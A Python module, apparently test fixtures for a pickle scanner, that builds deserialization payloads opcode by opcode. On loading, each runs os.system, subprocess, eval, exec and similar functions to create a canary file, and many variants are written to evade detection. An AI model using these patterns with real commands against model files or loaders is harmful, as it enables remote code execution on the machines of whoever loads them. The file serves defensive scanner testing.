"""Pickles that run code when they are loaded the usual way, written opcode by opcode: each creates one file."""

import pickle
import struct

PROTOCOL_2, PROTOCOL_4 = b"\x80\x02", b"\x80\x04"


def text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def name(module: str, attribute: str) -> bytes:
    return b"c" + module.encode() + b"\n" + attribute.encode() + b"\n"


def stack_name(module: str, attribute: str) -> bytes:
    return text(module) + text(attribute) + b"\x93"


def value(plain: object) -> bytes:
    """The opcodes of a plain value, without the pickle's start and end."""
    return pickle.dumps(plain, 3)[2:-1]


def call(function: bytes, *arguments: bytes) -> bytes:
    return function + b"(" + b"".join(arguments) + b"tR"


def live_attacks(canary: str) -> dict[str, bytes]:
    """Attacks that `pickle.loads` of Python 3.11 on Linux runs: after it, the file `canary` is there."""
    shell = f"touch {canary}"
    code = f"open({canary!r}, 'w').close()"
    inner = PROTOCOL_2 + call(name("os", "system"), text(shell)) + b"."
    functions: dict[str, tuple[object, ...]] = {
        "os.system": (shell,),
        "posix.system": (shell,),
        "os.mknod": (canary,),
        "os.symlink": ("/dev/null", canary),
        "subprocess.call": (["touch", canary],),
        "subprocess.run": (["touch", canary],),
        "subprocess.check_call": (["touch", canary],),
        "subprocess.check_output": (["touch", canary],),
        "subprocess.getoutput": (shell,),
        "subprocess.getstatusoutput": (shell,),
        "builtins.eval": (code,),
        "builtins.exec": (code,),
        "__builtin__.eval": (code,),
        "builtins.open": (canary, "w"),
        "io.open": (canary, "w"),
        "_io.open": (canary, "w"),
        "io.FileIO": (canary, "w"),
        "codecs.open": (canary, "w"),
        "gzip.open": (canary, "w"),
        "bz2.open": (canary, "w"),
        "lzma.open": (canary, "w"),
        "tarfile.open": (canary, "w"),
        "zipfile.ZipFile": (canary, "w"),
        "logging.FileHandler": (canary,),
        "shutil.copyfile": ("/dev/null", canary),
        "cProfile.run": (code, "/dev/null"),
        "pickle.loads": (inner,),
        "_pickle.loads": (inner,),
    }
    called = {
        full: PROTOCOL_2 + call(name(*full.rsplit(".", 1)), *map(value, arguments)) + b"."
        for full, arguments in functions.items()
    }
    return called | _live_instructions(shell, canary, code)


def _live_instructions(shell: str, canary: str, code: str) -> dict[str, bytes]:
    """The same function by every instruction and detour that a pickle has."""
    system, argument = name("os", "system"), text(shell)
    get, imported = name("builtins", "getattr"), call(name("builtins", "__import__"), text("os"))
    partial = call(name("functools", "partial"), system, argument)
    called = call(system, argument)
    return {
        "protocol 0": f"cos\nsystem\n(S'{shell}'\ntR.".encode(),
        "INST": f"(S'{shell}'\nios\nsystem\n.".encode(),
        "OBJ": b"(" + system + argument + b"o.",
        "STACK_GLOBAL": PROTOCOL_4 + call(stack_name("os", "system"), argument) + b".",
        "STACK_GLOBAL from memo": PROTOCOL_4
        + text("system")
        + b"\x940"
        + text("os")
        + b"\x940"
        + call(b"h\x01h\x00\x93", argument)
        + b".",
        "STACK_GLOBAL, short strings": PROTOCOL_4 + call(b"\x8c\x02os\x8c\x06system\x93", argument) + b".",
        "STACK_GLOBAL, long strings": PROTOCOL_4
        + call(b"\x8d\2" + bytes(7) + b"os\x8d\6" + bytes(7) + b"system\x93", argument)
        + b".",
        "dotted name": PROTOCOL_4 + call(stack_name("shutil", "os.system"), argument) + b".",
        "dotted name of a harmless module": PROTOCOL_4 + call(stack_name("pathlib", "os.system"), argument) + b".",
        "dotted name of torch": PROTOCOL_4 + call(stack_name("torch", "os.system"), argument) + b".",
        "getattr": PROTOCOL_2 + call(call(get, imported, text("system")), argument) + b".",
        "getattr chain": PROTOCOL_2
        + call(
            call(get, call(get, call(name("importlib", "import_module"), text("shutil")), text("os")), text("system")),
            argument,
        )
        + b".",
        "framed": PROTOCOL_4 + b"\x95" + struct.pack("<Q", len(called) + 1) + called + b".",
        "memo": PROTOCOL_2 + system + b"q\x000" + call(b"h\x00", argument) + b".",
        "NEWOBJ": PROTOCOL_2 + name("subprocess", "Popen") + b")\x810" + called + b".",
        "NEWOBJ_EX": PROTOCOL_4
        + name("pathlib", "PosixPath")
        + text(canary)
        + b"\x85}\x92"
        + b"0"
        + call(name("pathlib", "Path.touch"), call(name("pathlib", "PosixPath"), text(canary)))
        + b".",
        "BUILD": PROTOCOL_2
        + call(name("types", "SimpleNamespace"))
        + b"}"
        + text("__setstate__")
        + system
        + b"sb"
        + argument
        + b"b.",
        "functools.partial": PROTOCOL_2 + call(partial) + b".",
        "map": PROTOCOL_2
        + call(name("builtins", "list"), call(name("builtins", "map"), system, b"](" + argument + b"e"))
        + b".",
        "starmap": PROTOCOL_2
        + call(name("builtins", "list"), call(name("itertools", "starmap"), system, b"](" + argument + b"\x85e"))
        + b".",
        "methodcaller": PROTOCOL_2
        + call(call(name("operator", "methodcaller"), text("system"), argument), imported)
        + b".",
        "attrgetter": PROTOCOL_2
        + call(call(call(name("operator", "attrgetter"), text("system")), imported), argument)
        + b".",
        "function from code": PROTOCOL_2
        + call(
            call(
                name("types", "FunctionType"),
                call(name("builtins", "compile"), text(code), text("x"), text("exec")),
                b"}",
            )
        )
        + b".",
        "in a list": PROTOCOL_2 + b"](" + called + b"e.",
        "in a dictionary's value": PROTOCOL_2 + b"}" + text("weight") + called + b"s.",
        "in a dictionary's key": PROTOCOL_2 + b"}" + called + text("weight") + b"s.",
        "in a set": PROTOCOL_4 + b"\x8f(" + called + b"\x90.",
        "in a frozen set": PROTOCOL_4 + b"(" + called + b"\x91.",
        "in a tuple": PROTOCOL_2 + called + b"\x85.",
        "then forgotten": PROTOCOL_2 + called + b"0N.",
        "then forgotten to the mark": PROTOCOL_2 + b"N(" + called + b"1.",
        "duplicated": PROTOCOL_2 + system + b"2" + argument + b"\x85R.",
        "as the state of an OrderedDict": PROTOCOL_2
        + call(name("collections", "OrderedDict"))
        + b"}"
        + text("x")
        + called
        + b"sb.",
    }


def dead_attacks(canary: str) -> dict[str, bytes]:
    """Attacks that need more than Python 3.11 here: other systems, other packages, an extension registry."""
    shell = text(f"touch {canary}")
    functions = (
        "nt.system", "commands.getoutput", "popen2.popen3", "pty.spawn", "os.execv", "os.spawnlp", "runpy.run_path",
        "code.interact", "pdb.run", "socket.create_connection", "urllib.request.urlopen", "webbrowser.open",
        "ctypes.CDLL", "marshal.loads", "shelve.open", "multiprocessing.Process", "site.addsitedir", "sys.exit",
        "torch.hub.load", "torch.load", "torch.jit.load", "torch.utils.cpp_extension.load", "numpy.load",
        "numpy.testing._private.utils.runstring", "numpy.f2py.capi_maps.load_f2cmap_file", "pip._internal.main",
        "dill._dill._create_function", "cloudpickle.cloudpickle._make_function", "joblib.load", "pandas.read_pickle",
        "transformers.pipeline", "pytorch_lightning.Trainer", "builtins.__import__", "builtins.getattr",
        "builtins.breakpoint", "builtins.bytearray", "builtins.memoryview", "builtins.setattr", "builtins.globals",
    )  # fmt: skip
    return {full: PROTOCOL_2 + call(name(*full.rsplit(".", 1)), shell) + b"." for full in functions} | {
        "far memo": PROTOCOL_2
        + name("os", "system")
        + b"r\xff\xff\xff\x7f0"
        + call(b"j\xff\xff\xff\x7f", shell)
        + b".",
        "EXT1": PROTOCOL_2 + call(b"\x82\x01", shell) + b".",
        "EXT2": PROTOCOL_2 + call(b"\x83\x01\x01", shell) + b".",
        "EXT4": PROTOCOL_2 + call(b"\x84\x01\x01\x01\x01", shell) + b".",
        "PERSID": PROTOCOL_2 + b"Pos.system\n.",
        "a name of another name": PROTOCOL_4 + call(name("os", "system") + text("x") + b"\x93", shell) + b".",
        "calls a number": PROTOCOL_2 + call(value(7), shell) + b".",
        "calls a text": PROTOCOL_2 + call(text("os.system"), shell) + b".",
        "calls a torch type": PROTOCOL_2 + call(name("torch", "float32"), shell) + b".",
        "calls a storage class": PROTOCOL_2 + call(name("torch", "FloatStorage"), shell) + b".",
        "calls without arguments": PROTOCOL_2 + name("torch._utils", "_rebuild_tensor_v2") + b"NR.",
    }
